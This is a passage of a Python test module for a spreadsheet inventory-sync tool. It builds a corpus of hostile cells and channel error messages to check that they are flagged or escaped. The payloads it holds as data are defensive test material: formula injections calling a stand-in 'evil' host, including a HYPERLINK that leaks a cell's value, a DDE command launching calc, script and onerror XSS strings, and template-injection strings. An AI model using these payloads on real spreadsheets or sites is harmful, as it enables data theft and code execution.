# ruff: noqa: RUF001 - the corpus is made of look-alike characters on purpose
"""Hostile input: what merchants paste and channels send that they should not, and a campaign.

The corpus is data.  Each :class:`Case` is one cell the merchant typed (Inventory, Bundles or a
hand-typed Ledger row), as a spreadsheet holds it (``str`` is text, text starting with ``=`` is a
formula as typed, ``int``/``float``/``bool``/``date``/``datetime``/``time`` are native cell values),
with what the core must make of it: a parsed value, or :data:`FLAGGED` (the row is flagged with a
message naming the column, and nothing depends on the cell).  :data:`CHANNEL_MESSAGES` are what a
channel may put in a refusal or an error body: formulas, HTML, template syntax, a huge body.

:func:`hostile_campaign` puts the corpus in a master (a workbook through openpyxl, and Google
Sheets through gspread against :class:`FakeSheets` in-process), runs real ``run_cycle`` cycles
against sandbox channels, one of which refuses with hostile messages and one of which fails whole
calls with them, renders the dashboard, and counts what went wrong.

Unlike the fakes, this module drives the worker, so it imports the stores, the channels and the
worker; only tests and benchmarks import it.
"""

from __future__ import annotations

import asyncio
import logging
import random
import re
import tempfile
from collections.abc import Callable, Collection, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any, Final, Protocol

import httpx
import markupsafe
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sheetsync_fakes.google_sheets import FakeSheets, SheetSpec
from sheetsync_fakes.keys import service_account_key
from sheetsync_fakes.wire import HandlerAdapter

from sheetsync.channels.sandbox import SandboxChannel
from sheetsync.config import Settings, load
from sheetsync.core.cells import MAX_QUANTITY
from sheetsync.errors import PermanentError, TransientError
from sheetsync.model import (
    BUNDLE_HEADERS,
    BUNDLES_SHEET,
    INVENTORY_SHEET,
    LEDGER_SHEET,
    ChannelName,
    Movement,
    OrderBatch,
    OrderLine,
    PriceLevel,
    PushOutcome,
    Sku,
    StockLevel,
)
from sheetsync.stores import MasterStore
from sheetsync.stores.google_sheets import GoogleSheetsStore, connect
from sheetsync.stores.workbook import WorkbookStore
from sheetsync.web import Board, create_app
from sheetsync.worker import Inbox, run_cycle


class _Flagged:
    """The cell cannot be read: its row is flagged and nothing is pushed from it."""

    _instance: _Flagged | None = None

    def __new__(cls) -> _Flagged:
        if cls._instance is None:
            cls._instance = super().__new__(cls)
        return cls._instance

    def __repr__(self) -> str:
        return "FLAGGED"


FLAGGED: Final = _Flagged()

#: Where a cell lives and what depends on it: a stock cell blocks the row's stock pushes; a
#: price cell its price pushes (the row's stock still syncs, flagged); a reorder cell nothing.
STOCK, PRICE, REORDER, BUNDLE, LEDGER = "stock", "price", "reorder", "bundle", "ledger"

#: The channels of every campaign master: one that takes everything, one that refuses with
#: hostile messages, one whose every call fails with one.
SANDBOX, HOSTILE, BROKEN = ChannelName("sandbox"), ChannelName("hostile"), ChannelName("broken")
#: The hostile channel's own-SKU column; its readable values are blank (a code would rename the push).
CODE = "SKU Hostile"
#: Stock locations of the second layout (its "Quantity Shop" and "Quantity Warehouse" columns).
LOCATIONS = ("Shop", "Warehouse")
#: The SKU the hand-typed Ledger rows move, and its count; a component every bundle case uses.
LEDGER_SKU, LEDGER_COUNT = Sku("LEDGER-1"), 500
BASE_SKU, BASE_COUNT = Sku("HX-BASE"), 50


@dataclass(frozen=True, slots=True)
class Case:
    """One hostile cell and what the core must make of it.

    ``expect`` is, by sheet and column: Inventory SKU → the ``Sku``; a count (Quantity,
    Quantity <Location>), Reorder point / qty → ``int``; Override → ``int``, ``"PAUSE"`` or
    ``None`` (blank); Buffer → the hold as written back (``"3"``, ``"10%"``, ``"all"``); Price →
    ``Decimal``; Bundles → ``(bundle, component, units)``; Ledger → ``(sku, delta)`` counted.
    Or :data:`FLAGGED`.  ``row`` holds the row's other cells where they matter (a Reorder qty
    needs a Reorder point; a keyed Ledger row); ``twins`` are SKUs of more rows made alike.
    """

    sheet: str
    column: str
    value: object
    expect: object
    label: str
    row: Mapping[str, object] = field(default_factory=dict)
    twins: tuple[str, ...] = ()
    located: bool = False  #: needs the layout with locations (Quantity <Location>, Location)

    @property
    def flagged(self) -> bool:
        """The cell must be flagged, not read."""
        return self.expect is FLAGGED

    @property
    def governs(self) -> str:
        """What depends on the cell (STOCK, PRICE, REORDER, BUNDLE or LEDGER)."""
        if self.sheet == BUNDLES_SHEET:
            return BUNDLE
        if self.sheet == LEDGER_SHEET:
            return LEDGER
        if self.column.startswith("Price"):
            return PRICE
        if self.column.startswith("Reorder"):
            return REORDER
        return STOCK

    @property
    def workbook(self) -> bool:
        """An .xlsx cell can hold it (XML 1.0 has no NUL and almost no C0 control characters)."""
        return not (isinstance(self.value, str) and ILLEGAL_CHARACTERS_RE.search(self.value))

    def __str__(self) -> str:
        return f"{self.sheet}/{self.column}/{self.label}"


# --- hostile text, shared by many columns -----------------------------------------------------

IMPORTXML = '=IMPORTXML("http://evil/x","//a")'
HYPERLINK = '=HYPERLINK("http://evil/x?"&A1,"Click for your refund")'
DDE = "+cmd|' /C calc'!A0"
#: Text no column takes; the ``_flagged`` cases put each in every number column.
FORMULAS = (IMPORTXML, HYPERLINK, "=1+1", DDE, "-2+3", "@SUM(1)", "=A1", '=CONCAT("1","0")')
LONG = "9" * 10_000  #: a 10,000-character paste of digits
LONG_TEXT = ("lorem ipsum " * 834)[:10_000]
INVISIBLE = {
    "nul": "1\x000",
    "bell": "\x07" + "5",
    "rtl-override": "\u202e" + "51",
    "zero-width-joiner": "5\u200d",
    "zero-width-space": "\u200b" + "5",
    "bom": "\ufeff" + "5",
    "soft-hyphen": "1\u00ad0",
}
LOOKALIKE_NUMBERS = {
    "fullwidth": "１０",
    "arabic-indic": "٤٢",
    "persian": "۱۲",
    "devanagari": "४२",
    "math-bold": "𝟏𝟎",
    "superscript": "10²",
    "letter-O-for-zero": "1O",
    "letter-l-for-one": "l0",
    "mixed": "1٠",
}
NOT_NUMBERS = {
    "negative": "-5",
    "negative-zero": "-0",
    "negative-spaced": "- 5",
    "fraction": "7.5",
    "comma-decimal": "1,5",
    "dot-thousands": "1.000",
    "comma-thousands": "1,000",
    "space-thousands": "1 000",
    "nbsp-thousands": "1\u00a0000",
    "apostrophe-thousands": "1'000",
    "underscore": "1_000",
    "exponent": "1e3",
    "exponent-float": "1.5E3",
    "nan": "NaN",
    "inf": "inf",
    "infinity": "-Infinity",
    "hex": "0x10",
    "iso-date": "2026-11-24",
    "us-date": "11/24/2026",
    "time": "09:30",
    "boolean-text": "TRUE",
    "word": "ten",
    "currency": "$5",
    "percent": "5%",
    "parenthesised": "(5)",
    "two-numbers": "5 6",
    "huge": str(10**20),
    "int64": str(2**63),
    "billion-and-one": str(MAX_QUANTITY + 1),
    "long-paste": LONG,
    "long-text": LONG_TEXT,
    "leading-zeros-long": "0" * 60 + "7",
    "html": "<b>5</b>",
    "script": "<script>alert(1)</script>",
    "template": "{{7*7}}",
}
#: Whole numbers a count column must read as written (or as the spreadsheet holds them).
COUNTS: Mapping[str, tuple[object, int]] = {
    "plain": ("7", 7),
    "zero": ("0", 0),
    "leading-zeros": ("0042", 42),
    "spaces": (" 7 ", 7),
    "tab-newline": ("\t7\n", 7),
    "nbsp": ("\u00a07\u00a0", 7),
    "plus": ("+7", 7),
    "point-zero": ("7.0", 7),
    "point-zeros": ("7.00", 7),
    "comma-zero": ("7,0", 7),
    "billion": (str(MAX_QUANTITY), MAX_QUANTITY),
    "int-cell": (7, 7),
    "float-cell-whole": (7.0, 7),
    "float-cell-exponent": (1e3, 1000),
}
#: Native cell values (a number, a date, a boolean in the cell) that are not a count.
NATIVE_NOT_COUNTS: Mapping[str, object] = {
    "float-cell-fraction": 7.5,
    "negative-cell": -3,
    "huge-cell": 10**20,
    "int64-cell": 2**63,
    "float-huge-cell": 1e20,
    "tiny-float-cell": 1e-7,
    "float-noise-cell": 0.1 + 0.2,
    "date-cell": date(2026, 11, 24),
    "datetime-cell": datetime(2026, 11, 24, 9, 30),  # noqa: DTZ001 - a spreadsheet date has no zone
    "time-cell": time(9, 30),
    "true-cell": True,
    "false-cell": False,
}


def _flagged(sheet: str, column: str, *, located: bool = False, skip: Collection[str] = ()) -> list[Case]:
    """Every not-a-count in ``column``: formulas, invisibles, look-alikes, locale formats, natives."""
    values: dict[str, object] = {f"formula-{n}": text for n, text in enumerate(FORMULAS)}
    values |= {f"invisible-{name}": text for name, text in INVISIBLE.items()}
    values |= {f"lookalike-{name}": text for name, text in LOOKALIKE_NUMBERS.items()}
    values |= NOT_NUMBERS
    values |= NATIVE_NOT_COUNTS
    return [
        Case(sheet, column, value, FLAGGED, label, located=located)
        for label, value in values.items()
        if label not in skip
    ]


def _counts(sheet: str, column: str, *, located: bool = False) -> list[Case]:
    return [
        Case(sheet, column, value, expect, label, located=located)
        for label, (value, expect) in COUNTS.items()
    ]


def _inventory() -> list[Case]:
    inv = INVENTORY_SHEET
    cases = [
        *_counts(inv, "Quantity"),
        *_flagged(inv, "Quantity"),
        Case(inv, "Quantity", "", FLAGGED, "blank"),
        Case(inv, "Quantity", "   ", FLAGGED, "spaces-only"),
        *_counts(inv, "Quantity Shop", located=True),
        *_flagged(inv, "Quantity Shop", located=True),
        Case(inv, "Quantity Warehouse", "", FLAGGED, "blank", located=True),
        Case(inv, "Quantity Warehouse", IMPORTXML, FLAGGED, "importxml", located=True),
        Case(inv, "Quantity Warehouse", "1.000", FLAGGED, "dot-thousands", located=True),
        Case(inv, "Quantity Warehouse", date(2026, 11, 24), FLAGGED, "date-cell", located=True),
        Case(inv, "Quantity Warehouse", str(MAX_QUANTITY), FLAGGED, "sum-over-max", located=True),
    ]
    # Override: blank, a count or PAUSE; anything else is flagged.
    cases += [
        Case(inv, "Override", "", None, "blank"),
        Case(inv, "Override", "   ", None, "spaces-only"),
        Case(inv, "Override", "PAUSE", "PAUSE", "pause"),
        Case(inv, "Override", " paused ", "PAUSE", "paused-spaced"),
        Case(inv, "Override", "0", 0, "zero"),
        Case(inv, "Override", "0042", 42, "leading-zeros"),
        Case(inv, "Override", 5, 5, "int-cell"),
        Case(inv, "Override", "PAUSE\u200d", FLAGGED, "pause-zero-width"),
        Case(inv, "Override", "ＰＡＵＳＥ", FLAGGED, "pause-fullwidth"),
        Case(inv, "Override", "РАUSE", FLAGGED, "pause-cyrillic"),
        *_flagged(inv, "Override", skip={"false-cell"}),
        Case(inv, "Override", False, FLAGGED, "false-cell"),
    ]
    # Buffer (every channel) and Buffer <Channel>: units, a percentage or all.
    for column in ("Buffer", "Buffer Sandbox"):
        cases += [
            Case(inv, column, "3", "3", "units"),
            Case(inv, column, " 10% ", "10%", "percent-spaced"),
            Case(inv, column, "12.5%", "12.5%", "percent-fraction"),
            Case(inv, column, "ALL", "all", "all-upper"),
            Case(inv, column, 2, "2", "int-cell"),
            Case(inv, column, "101%", FLAGGED, "over-100-percent"),
            Case(inv, column, "2.5", FLAGGED, "fractional-units"),
            Case(inv, column, "ａｌｌ", FLAGGED, "all-fullwidth"),
            Case(inv, column, "3\u200b", FLAGGED, "zero-width"),
            *_flagged(inv, column, skip={"percent", "false-cell", "true-cell"}),
        ]
    # Price and Price <Channel>: a positive amount with at most two decimals, no comma.
    for column in ("Price", "Price Hostile"):
        cases += [
            Case(inv, column, "12.50", Decimal("12.50"), "amount"),
            Case(inv, column, " 12.5 ", Decimal("12.5"), "spaced"),
            Case(inv, column, "0042", Decimal("42"), "leading-zeros"),
            Case(inv, column, 19.99, Decimal("19.99"), "float-cell"),
            Case(inv, column, 20, Decimal("20"), "int-cell"),
            Case(inv, column, "0", FLAGGED, "zero"),
            Case(inv, column, "12.505", FLAGGED, "three-decimals"),
            Case(inv, column, "12,50", FLAGGED, "comma-decimal"),
            Case(inv, column, "€12.50", FLAGGED, "currency-sign"),
            Case(inv, column, "1000000.01", FLAGGED, "above-max"),
            Case(inv, column, "7.5", Decimal("7.5"), "one-decimal"),
            Case(inv, column, 7.5, Decimal("7.5"), "float-cell-fraction"),
            # 0.1 + 0.2 is left out: Excel keeps 15 digits (0.3), Google Sheets 17 (flagged).
            *_flagged(inv, column, skip={"fraction", "float-cell-fraction", "float-noise-cell"}),
        ]
    # Reorder point / qty: counts; a bad one is a note (the row's stock still syncs).
    cases += [
        *_counts(inv, "Reorder point"),
        *_flagged(inv, "Reorder point"),
        Case(inv, "Reorder qty", "24", 24, "plain", row={"Reorder point": "5"}),
        Case(inv, "Reorder qty", 24.0, 24, "float-cell", row={"Reorder point": "5"}),
        Case(inv, "Reorder qty", "2 dozen", FLAGGED, "words", row={"Reorder point": "5"}),
        Case(inv, "Reorder qty", IMPORTXML, FLAGGED, "importxml", row={"Reorder point": "5"}),
        Case(inv, "Reorder qty", "１２", FLAGGED, "fullwidth", row={"Reorder point": "5"}),
        Case(inv, "Reorder qty", date(2026, 11, 24), FLAGGED, "date-cell", row={"Reorder point": "5"}),
        Case(inv, "Reorder qty", "24", FLAGGED, "no-point"),
    ]
    cases += _skus()
    return cases


def _skus() -> list[Case]:
    inv, sku = INVENTORY_SHEET, "SKU"
    return [
        Case(inv, sku, "HX-PLAIN", Sku("HX-PLAIN"), "plain"),
        Case(inv, sku, "  HX-TRAIL \t", Sku("HX-TRAIL"), "surrounding-spaces"),
        Case(inv, sku, "\u00a0HX-NBSP\u3000", Sku("HX-NBSP"), "nbsp-ideographic-space"),
        Case(inv, sku, "0042", Sku("0042"), "number-as-text"),
        Case(inv, sku, 4711, Sku("4711"), "int-cell"),
        Case(inv, sku, "Crème-brûlée", Sku("Crème-brûlée"), "accented"),
        Case(inv, sku, "Cre\u0300me-NFD", Sku("Cre\u0300me-NFD"), "combining-accent-kept"),
        Case(inv, sku, "靴下-赤-27", Sku("靴下-赤-27"), "cjk"),
        Case(inv, sku, "🧦-RED", Sku("🧦-RED"), "emoji"),
        Case(inv, sku, "שלום-1", Sku("שלום-1"), "hebrew"),
        # Look-alikes are other SKUs, never folded into the Latin one.
        Case(inv, sku, "A-100", Sku("A-100"), "latin-A"),
        Case(inv, sku, "А-100", Sku("А-100"), "cyrillic-A"),
        Case(inv, sku, "Ａ-100", Sku("Ａ-100"), "fullwidth-A"),
        Case(inv, sku, "A-１００", Sku("A-１００"), "fullwidth-digits"),
        Case(inv, sku, "A-٤٢", Sku("A-٤٢"), "arabic-indic-digits"),
        Case(inv, sku, "<img src=x onerror=alert(1)>", Sku("<img src=x onerror=alert(1)>"), "html"),
        Case(inv, sku, "{{7*7}}", Sku("{{7*7}}"), "template"),
        Case(inv, sku, "x" * 255, Sku("x" * 255), "longest"),
        # Flagged: blank, duplicated, formulas and formula starters, invisible characters, too long.
        Case(inv, sku, "", FLAGGED, "blank"),
        Case(inv, sku, " \t ", FLAGGED, "whitespace-only"),
        Case(inv, sku, "HX-DUP", FLAGGED, "duplicated", twins=("HX-DUP",)),
        Case(inv, sku, "HX-TWIN", FLAGGED, "duplicated-after-trim", twins=(" HX-TWIN  ",)),
        Case(inv, sku, "HX-TRIPLE", FLAGGED, "triplicated", twins=("HX-TRIPLE", "HX-TRIPLE")),
        *(Case(inv, sku, text, FLAGGED, f"formula-{n}") for n, text in enumerate(FORMULAS)),
        Case(inv, sku, "@HX", FLAGGED, "at-sign"),
        *(Case(inv, sku, f"HX-{text}-1", FLAGGED, f"invisible-{name}") for name, text in INVISIBLE.items()),
        Case(inv, sku, "x" * 256, FLAGGED, "too-long"),
        Case(inv, sku, LONG_TEXT, FLAGGED, "long-paste"),
        # A channel's own SKU (SKU <Channel>): blank is the row's SKU; anything unreadable is flagged.
        Case(inv, CODE, "", None, "blank"),
        Case(inv, CODE, "  \t", None, "whitespace-only"),
        *(Case(inv, CODE, text, FLAGGED, f"formula-{n}") for n, text in enumerate(FORMULAS)),
        Case(inv, CODE, "@HX", FLAGGED, "at-sign"),
        *(Case(inv, CODE, f"HX-{text}-1", FLAGGED, f"invisible-{name}") for name, text in INVISIBLE.items()),
        Case(inv, CODE, "x" * 256, FLAGGED, "too-long"),
    ]


def _bundles() -> list[Case]:
    b = BUNDLES_SHEET
    return [
        *_counts(b, "Quantity")[:1],
        Case(b, "Quantity", "2", 2, "two"),
        Case(b, "Quantity", "0003", 3, "leading-zeros"),
        Case(b, "Quantity", 4.0, 4, "float-cell"),
        Case(b, "Quantity", "0", FLAGGED, "zero"),
        Case(b, "Quantity", "", FLAGGED, "blank"),
        *_flagged(b, "Quantity"),
        Case(b, "Component", " HX-BASE ", BASE_SKU, "spaced"),
        Case(b, "Component", "", FLAGGED, "blank"),
        Case(b, "Component", "hx-base", FLAGGED, "other-case"),
        Case(b, "Component", "НХ-BASE", FLAGGED, "cyrillic-lookalike"),
        Case(b, "Component", "HX-BASE\u200d", FLAGGED, "zero-width"),
        Case(b, "Component", IMPORTXML, FLAGGED, "importxml"),
        Case(b, "Component", LONG_TEXT, FLAGGED, "long-paste"),
        Case(b, "Bundle", "  HB-SPACED  ", Sku("HB-SPACED"), "spaced"),
        Case(b, "Bundle", "", FLAGGED, "blank"),
    ]


def _ledger() -> list[Case]:
    led, keyed = LEDGER_SHEET, {"Key": "hand/keyed", "Time": "2026-11-20T10:00:00Z"}
    cases = [
        Case(led, "Delta", "-3", (LEDGER_SKU, -3), "negative"),
        Case(led, "Delta", "+4", (LEDGER_SKU, 4), "plus"),
        Case(led, "Delta", " 5 ", (LEDGER_SKU, 5), "spaced"),
        Case(led, "Delta", -2, (LEDGER_SKU, -2), "int-cell"),
        Case(led, "Delta", 6.0, (LEDGER_SKU, 6), "float-cell-whole"),
        Case(led, "Delta", str(-MAX_QUANTITY), (LEDGER_SKU, -MAX_QUANTITY), "minus-billion"),
        Case(led, "Delta", "", FLAGGED, "blank"),
        Case(led, "Delta", str(MAX_QUANTITY + 1), FLAGGED, "over-billion"),
        Case(led, "Delta", "-" + str(10**20), FLAGGED, "huge-negative"),
        Case(led, "Delta", 10**20, FLAGGED, "huge-cell"),
        Case(led, "Delta", "1_000", FLAGGED, "underscore"),
        Case(led, "Delta", "１０", FLAGGED, "fullwidth"),
        Case(led, "Delta", "٤", FLAGGED, "arabic-indic"),
        Case(led, "Delta", 2.5, FLAGGED, "float-cell-fraction"),
        Case(led, "Delta", "1e3", FLAGGED, "exponent"),
        Case(led, "Delta", "1,000", FLAGGED, "comma-thousands"),
        Case(led, "Delta", IMPORTXML, FLAGGED, "importxml"),
        Case(led, "Delta", "-2+3", FLAGGED, "arithmetic"),
        Case(led, "Delta", "\u202e5", FLAGGED, "rtl-override"),
        Case(led, "Delta", LONG, FLAGGED, "long-paste"),
        Case(led, "Delta", date(2026, 11, 24), FLAGGED, "date-cell"),
        Case(led, "Delta", True, FLAGGED, "true-cell"),
        Case(led, "SKU", " LEDGER-1 ", (LEDGER_SKU, -1), "spaced"),
        Case(led, "SKU", "", FLAGGED, "blank"),
        Case(led, "SKU", "ledger-1", (Sku("ledger-1"), -1), "other-case-is-another-sku"),
        Case(led, "SKU", "LЕDGER-1", (Sku("LЕDGER-1"), -1), "cyrillic-lookalike-is-another-sku"),
        Case(led, "SKU", IMPORTXML, (Sku(IMPORTXML), -1), "formula-moves-no-row"),
        Case(led, "Movement", "adjust", (LEDGER_SKU, -1), "lower-case"),
        Case(led, "Movement", "SELL", FLAGGED, "unknown"),
        Case(led, "Movement", "ＡＤＪＵＳＴ", FLAGGED, "fullwidth"),
        Case(led, "Movement", "<script>alert(1)</script>", FLAGGED, "script"),
        Case(led, "Time", "yesterday", (LEDGER_SKU, -1), "hand-typed-needs-no-time"),
        Case(led, "Time", "0001-01-01T00:00:00+01:00", (LEDGER_SKU, -1), "before-year-1-in-utc"),
        Case(led, "Time", "0001-01-01T00:00:00+01:00", FLAGGED, "keyed-before-year-1", row=keyed),
        Case(led, "Time", "9999-12-31T23:59:59-10:00", FLAGGED, "keyed-after-year-9999", row=keyed),
        Case(led, "Time", "2026-13-45", FLAGGED, "keyed-impossible-date", row=keyed),
        Case(led, "Time", datetime(2026, 11, 24, 9, 30), (LEDGER_SKU, -1), "keyed-datetime-cell", row=keyed),  # noqa: DTZ001
        Case(led, "Key", IMPORTXML, (LEDGER_SKU, -1), "formula-key-is-text", row=keyed),
        Case(led, "Key", "<b>k</b>", (LEDGER_SKU, -1), "html-key", row=keyed),
        Case(led, "Key", "hand/no-time", FLAGGED, "keyed-without-time"),
        Case(led, "Location", "shop", (LEDGER_SKU, -1), "other-case", located=True),
        Case(led, "Location", "", (LEDGER_SKU, -1), "blank-is-first", located=True),
        Case(led, "Location", "Basement", FLAGGED, "unknown", located=True),
        Case(led, "Location", "Ｓｈｏｐ", FLAGGED, "fullwidth", located=True),
        Case(led, "Location", IMPORTXML, FLAGGED, "importxml", located=True),
    ]
    return cases


#: Every hostile master cell.
CORPUS: tuple[Case, ...] = (*_inventory(), *_bundles(), *_ledger())

#: What channels may say: in a refusal, an error body, a product title quoted in either.
CHANNEL_MESSAGES: tuple[str, ...] = (
    IMPORTXML,
    HYPERLINK,
    "=1+1",
    DDE,
    "-2+3",
    "@SUM(1)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</td></tr></table><script>alert(1)</script>",
    "{{7*7}}",
    "{{ 'hostile' ~ '-template' }}",
    "{% for x in range(3) %}looped{% endfor %}",
    'product "=HYPERLINK(""http://evil/x"",""Sock"")" is not in the catalog',
    "title <b onmouseover=alert(1)>Socks</b> is archived",
    "\u202eevil title",
    "null \x00 byte",
    "<html><body>" + "<p>502 Bad Gateway</p>" * 3_000 + "</body></html>",  # a 60 kB error page
)
#: Template payloads whose evaluation would leave this text in the page.
TEMPLATE_MARKERS = {
    "{{ 'hostile' ~ '-template' }}": "hostile-template",
    "{% for x in range(3) %}": "loopedlooped",
}


# --- channels ---------------------------------------------------------------------------------


class _Recording(SandboxChannel):
    """A sandbox that remembers every quantity and price the worker tried to push."""

    def __init__(self, name: ChannelName, clock: Callable[[], datetime]) -> None:
        super().__init__(name, clock)
        self.tried: list[StockLevel] = []
        self.tried_prices: list[PriceLevel] = []

    def push(self, levels: Sequence[StockLevel]) -> Sequence[PushOutcome]:
        """Note the levels, then take them as the sandbox does."""
        self.tried += levels
        return super().push(levels)

    def push_prices(self, prices: Sequence[PriceLevel]) -> Sequence[PushOutcome]:
        """Note the prices, then take them as the sandbox does."""
        self.tried_prices += prices
        return super().push_prices(prices)


class HostileChannel(_Recording):
    """Refuses the SKUs in ``refusals`` with a hostile message each, quantities and prices alike."""

    def __init__(self, name: ChannelName, clock: Callable[[], datetime], refusals: Mapping[Sku, str]) -> None:
        super().__init__(name, clock)
        self.refusals = dict(refusals)

    def push(self, levels: Sequence[StockLevel]) -> Sequence[PushOutcome]:
        """Refuse the listed SKUs with their message; take the rest."""
        self.tried += levels
        taken = super(_Recording, self).push([lv for lv in levels if lv.sku not in self.refusals])
        by_sku = {o.sku: o for o in taken}
        return [by_sku.get(lv.sku) or PushOutcome(lv.sku, False, self.refusals[lv.sku]) for lv in levels]

    def push_prices(self, prices: Sequence[PriceLevel]) -> Sequence[PushOutcome]:
        """Refuse the listed SKUs' prices with their message; take the rest."""
        self.tried_prices += prices
        taken = super(_Recording, self).push_prices([p for p in prices if p.sku not in self.refusals])
        by_sku = {o.sku: o for o in taken}
        return [by_sku.get(p.sku) or PushOutcome(p.sku, False, self.refusals[p.sku]) for p in prices]


class BrokenChannel(_Recording):
    """Every push fails whole, and every order read too, with a hostile error body."""

    def __init__(self, name: ChannelName, clock: Callable[[], datetime], message: str) -> None:
        super().__init__(name, clock)
        self.message = message

    def push(self, levels: Sequence[StockLevel]) -> Sequence[PushOutcome]:
        """Fail the whole call."""
        self.tried += levels
        raise PermanentError(f"{self.name}: 400 {self.message}")

    def push_prices(self, prices: Sequence[PriceLevel]) -> Sequence[PushOutcome]:
        """Fail the whole call."""
        self.tried_prices += prices
        raise PermanentError(f"{self.name}: 400 {self.message}")

    def orders_since(self, cursor: str | None) -> OrderBatch:
        """Fail the read."""
        raise TransientError(f"{self.name}: 503 {self.message}")


# --- masters ----------------------------------------------------------------------------------

_CONFIG = """
{locations}
[master]
kind = "workbook"
path = "unused.xlsx"

[prices]
currency = "EUR"

[channels.sandbox]
kind = "sandbox"
title = "Sandbox"
interval = 30

[channels.hostile]
kind = "sandbox"
title = "Hostile"
interval = 30

[channels.broken]
kind = "sandbox"
title = "Broken"
interval = 30
"""

#: The price every row gets unless its case is about the Price column itself.
PRICE_TEXT = "9.99"


@dataclass
class MasterSheets:
    """One master's sheets as the merchant leaves them, and what may be pushed from it.

    Each row maps a header to the cell's value.
    """

    inventory: list[dict[str, object]] = field(default_factory=list)
    bundles: list[dict[str, object]] = field(default_factory=list)
    ledger: list[dict[str, object]] = field(default_factory=list)
    stock_ok: set[Sku] = field(default_factory=set)  #: SKUs whose quantity may be pushed
    price_ok: set[Sku] = field(default_factory=set)  #: SKUs whose price may be pushed …
    #: … except to these (channel, SKU) pairs, whose own Price cell is unreadable (None: every one)
    price_blocked: set[tuple[ChannelName | None, Sku]] = field(default_factory=set)
    ledger_delta: int = 0  #: the hand-typed deltas that must count on LEDGER_SKU
    refused: list[Sku] = field(default_factory=list)  #: SKUs the hostile channel refuses


def master_sheets(cases: Sequence[Case], located: bool, rng: random.Random) -> MasterSheets:
    """The sheets holding ``cases``, one row each (more for duplicated SKUs).

    The rows the hostile channel refuses come first (the dashboard lists the first 200 flagged
    rows, and the test wants every hostile message on the page); the rest are in an order drawn
    from ``rng``, which also picks the refused SKUs.
    """
    sheet = MasterSheets()
    count_columns = [f"Quantity {place}" for place in LOCATIONS] if located else ["Quantity"]
    counts: dict[str, object] = {column: 0 for column in count_columns}
    counts[count_columns[0]] = 20
    rows: list[dict[str, object]] = []
    for n, case in enumerate(c for c in cases if c.sheet == INVENTORY_SHEET):
        sku = Sku(f"HX-{n:03d}")
        row: dict[str, object] = {"SKU": sku, **counts, **case.row, case.column: case.value}
        if case.column != "Price":
            row.setdefault("Price", PRICE_TEXT)
        rows.append(row)
        rows += [{**row, "SKU": twin} for twin in case.twins]
        if case.column == "SKU":
            if case.flagged:
                continue
            sku = Sku(str(case.expect))
        if case.flagged and case.governs == STOCK:
            continue
        sheet.stock_ok.add(sku)
        sheet.price_ok.add(sku)
        if case.flagged and case.governs == PRICE:
            channel = None if case.column == "Price" else ChannelName(case.column.split()[1].casefold())
            sheet.price_blocked.add((channel, sku))
    for sku, quantity in ((BASE_SKU, BASE_COUNT), (LEDGER_SKU, LEDGER_COUNT)):
        rows.append({"SKU": sku, **dict.fromkeys(count_columns, 0), count_columns[0]: quantity})
        sheet.stock_ok.add(sku)
    for n, case in enumerate(c for c in cases if c.sheet == BUNDLES_SHEET):
        bundle = f"HB-{n:03d}"
        cells: dict[str, object] = {"Bundle": bundle, "Component": BASE_SKU, "Quantity": "2"}
        cells[case.column] = case.value
        sheet.bundles.append(cells)
        if case.column == "Bundle":
            if case.flagged:
                continue  # a blank Bundle names nothing: there is no Inventory row to flag
            bundle = str(case.expect)
        rows.append({"SKU": bundle})
        if not case.flagged:
            sheet.stock_ok.add(Sku(bundle))
    for n, case in enumerate(c for c in cases if c.sheet == LEDGER_SHEET):
        cells = {"SKU": LEDGER_SKU, "Delta": "-1", "Movement": "ADJUST", **case.row, case.column: case.value}
        if isinstance(cells.get("Key"), str) and cells["Key"]:
            cells["Key"] = f"{cells['Key']}/{n}"  # each row its own key: a repeated key counts once
        sheet.ledger.append(cells)
        if isinstance(case.expect, tuple) and case.expect[0] == LEDGER_SKU:
            sheet.ledger_delta += int(case.expect[1])
    html = Sku("<img src=x onerror=alert(1)>")
    good = sorted(sku for sku in sheet.stock_ok - {BASE_SKU, LEDGER_SKU, html} if sku.startswith("HX-"))
    picked = rng.sample(good, k=min(len(CHANNEL_MESSAGES), len(good)))
    sheet.refused = [sku for sku in (html, *picked) if sku in sheet.stock_ok]
    refused = set(sheet.refused)
    first = [r for r in rows if _stripped(r["SKU"]) in refused]
    rest = [r for r in rows if _stripped(r["SKU"]) not in refused]
    rng.shuffle(rest)
    sheet.inventory = first + rest
    return sheet


def _stripped(value: object) -> str:
    return value.strip() if isinstance(value, str) else str(value)


class _Master(Protocol):
    store: MasterStore

    def formula_cells(self) -> set[str]: ...

    def long_cells(self) -> set[str]: ...


def _headers(rows: Sequence[Mapping[str, object]], first: Sequence[str] = ()) -> list[str]:
    return list(dict.fromkeys([*first, *(h for row in rows for h in row)]))


def _tables(
    sheet: MasterSheets, settings: Settings
) -> Iterator[tuple[str, list[str], list[dict[str, object]]]]:
    yield INVENTORY_SHEET, _headers(sheet.inventory, ("SKU",)), sheet.inventory
    yield BUNDLES_SHEET, _headers(sheet.bundles, tuple(BUNDLE_HEADERS.values())), sheet.bundles
    yield LEDGER_SHEET, _headers(sheet.ledger, tuple(settings.layout.ledger_headers().values())), sheet.ledger


class _WorkbookMaster:
    """The sheets in an .xlsx file, values as openpyxl cells hold them (text "=…" a formula)."""

    #: Characters an Excel cell holds (the store clips to it).
    LONGEST = 32_767

    def __init__(self, path: Path, sheet: MasterSheets, settings: Settings) -> None:
        wb = Workbook()
        wb.remove(wb.worksheets[0])
        for name, headers, rows in _tables(sheet, settings):
            ws = wb.create_sheet(name)
            ws.append(headers)
            for row in rows:
                ws.append([_xlsx(row.get(h)) for h in headers])
        wb.save(path)
        self.path = path
        self.store: MasterStore = WorkbookStore(path, settings.layout)

    def _cells(self) -> Iterator[tuple[str, object, str]]:
        wb = load_workbook(self.path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    yield f"{ws.title}!{cell.coordinate}", cell.value, cell.data_type

    def formula_cells(self) -> set[str]:
        return {where for where, _, kind in self._cells() if kind == "f"}

    def long_cells(self) -> set[str]:
        return {
